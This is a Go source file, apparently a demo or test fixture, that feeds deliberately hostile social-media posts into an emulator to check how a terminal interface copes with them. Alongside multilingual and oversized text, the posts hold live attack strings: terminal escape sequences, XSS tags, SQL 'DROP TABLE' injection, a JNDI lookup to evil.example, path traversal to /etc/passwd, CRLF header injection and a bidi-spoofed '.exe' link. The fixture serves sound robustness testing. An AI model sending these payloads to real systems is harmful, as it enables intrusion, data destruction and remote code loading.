package demo

import (
	"strings"
	"time"

	"vigie/connectors/emulator"
)

// nuisance is what somebody wrote who wishes terminals ill, or whose writing tries them honestly.
type nuisance struct {
	channel      string
	ago          time.Duration
	name, handle string
	lang, text   string
}

// nuisances try everything that a screen must bear. Escapes stand here as Go writes them, never as themselves.
func nuisances() []nuisance {
	return []nuisance{
		{"fedi", 17 * time.Minute, "\x1b[31mRoot\x1b[0m", "root@evil.example", "en",
			"\x1b[2J\x1b[H\x1b]0;pwned\x07Nice bikes. \x1b[8mhidden\x1b[0m \x1b]8;;https://evil.example\x07click\x1b]8;;\x07 \x1b[6n \u009b31m"},
		{"fedi", 52 * time.Minute, "Z̷̛͔a̸͓͛l̴̳̊g̶̱̾ö̵̞", "zalgo@void.example", "en",
			"I r\u0335\u0317\u0308o\u0336\u0349\u0301d\u0334\u0323\u0303e\u0335\u0353\u0306 a b" + strings.Repeat("\u0336\u0322\u031b", 24) + "ike and it r\u0337ode b\u0335ack. He comes. On a Quartier."},
		{"fedi", 75 * time.Minute, "\u202eexe.knabuoy", "bidi@mirror.example", "fr",
			"Téléchargez la notice : https://velolune.example/\u202efdp.exe\u202c (\u2066c'est sûr\u2069)"},
		{"salon", 35 * time.Minute, "👩‍👩‍👧‍👦 Les Martin", "martin@famille.example", "fr",
			"Dégustation en famille 👨‍👩‍👧‍👦🫖👩🏽‍🍳 verdict : 👍👍🏿👎 (le petit préfère le sirop) 🇫🇷🏳️‍🌈1️⃣"},
		{"salon", 2 * time.Hour, "نورة", "noura@shay.example", "ar",
			"شاي رائع جدا! هل يمكن الشحن إلى تونس قبل رمضان؟ شكرا لكم"},
		{"salon", 4 * time.Hour, "דנה", "dana@teh.example", "he",
			"תה מצוין, אבל החבילה הגיעה פתוחה. אפשר לקבל חדשה?"},
		{"salon", 5 * time.Hour, "陳美玲", "meiling@chahu.example", "zh",
			"「Brume du matin」很像家鄉的龍井，請問可以寄到台北嗎？"},
		{"salon", 8 * time.Hour, "田中さくら", "sakura@ocha.example", "ja",
			"Grand-Oncle、香りが深くて驚きました。お茶会で出したいのですが、五百グラム缶はありますか？"},
		{"fedi", 3 * time.Hour, "김민준", "minjun@jajeon.example", "ko",
			"크루아상 접이식 자전거, 서울까지 배송되나요? 지하철에 들고 타려고요."},
		{"fedi", 6 * time.Hour, "zero\u200bwidth\u2060\ufeff", "zwsp@thin.example", "en",
			"Can you\u200b see\u200c the\u2060 spaces\ufeff be\u00adtween my words? \U000e0041\U000e0042 Neither can I. Anyway: is the belt greased?"},
		{"blog", 90 * time.Minute, "<script>alert(1)</script>", "script@kiddie.example", "en",
			`<script>alert("moo")</script><img src=x onerror=alert(1)><iframe src="javascript:alert(2)"></iframe> Lovely <b onclick=evil()>article</b>, <a href="javascript:void(0)">more here</a>.`},
		{"blog", 7 * time.Hour, "Bobby '); DROP TABLE comments;--", "bobby@school.example", "en",
			"My mother says hello. Robert'); DROP TABLE bicycles;-- %s%s%n {{7*7}} ${jndi:ldap://evil.example/a} ../../etc/passwd"},
		{"blog", 11 * time.Hour, "M. Longuet", "longuet@fleuve.example", "fr",
			strings.Repeat("Je voudrais, sans vouloir abuser de votre temps que je sais précieux, apporter une nuance à la nuance du paragraphe précédent, car un vélo n'est pas seulement un vélo, c'est aussi ce que l'on en dit, et ce que l'on en dit, vous en conviendrez, tient rarement sur un porte-bagages. ", 60) + "Voilà. Bonne journée."},
		{"salon", 9 * time.Hour, strings.Repeat("Comtesse ", 40) + "de Thé", "comtesse@manoir.example", "fr",
			"Aaaaaaaaaaaa" + strings.Repeat("a", 900) + "h. (C'est tout.)"},
		{"fedi", 10 * time.Hour, "newline\r\nX-Injected: yes", "crlf@header.example", "en",
			"First line\r\nSecond line\rOverwritten line\n\n\n\n\n\n\n\n\nAnd far below, a question: tubeless or not?"},
	}
}

// hostile brings them in.
func (h *history) hostile() {
	for _, n := range nuisances() {
		v, who := h.venue(n.channel), emulator.Author{Handle: n.handle, Name: n.name, Followers: len(n.text) % 300, Since: h.now.AddDate(-1, 0, 0)}
		l := line{lang: n.lang, mark: "?", text: n.text}
		at := h.now.Add(-n.ago)
		h.add(n.ago, func() {
			h.hear(v, l, who, v.say(l, emulator.Post{Author: who, Text: l.text, Lang: l.lang, Posted: at}))
		})
	}
}
